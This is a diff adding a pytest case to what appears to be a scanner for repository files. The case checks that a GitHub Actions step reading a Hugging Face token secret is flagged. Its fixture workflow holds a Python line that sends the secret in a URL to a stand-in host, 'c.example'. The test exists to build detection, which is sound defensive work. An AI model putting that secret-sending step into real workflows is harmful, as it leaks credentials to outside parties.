@@ -149,3 +149,15 @@ def test_comments_are_taken_out_of_json_only_where_readers_allow_them() -> None:
     text = '{"a": "http://x", /* b */ "c": [1, 2,], } // d'
     assert json.loads(plain_json("x/.vscode/settings.json", text)) == {"a": "http://x", "c": [1, 2]}
     assert plain_json("config.json", text) == text
+
+
+@pytest.mark.parametrize(("host", "high"), [("c.example", True), ("huggingface.co", False)])
+def test_a_step_in_python_knows_the_secret_behind_its_variable(host: str, high: bool) -> None:
+    text = (
+        "on: [push]\njobs:\n  a:\n    steps:\n      - shell: python\n"
+        "        env:\n          T: ${{ secrets.HF_TOKEN }}\n"
+        "        run: |\n          import os, urllib.request as u\n"
+        f"          u.urlopen('https://{host}/?t=' + os.environ['T'])\n"
+    )
+    found = inspect(text.encode(), ".github/workflows/a.yml").findings
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is high
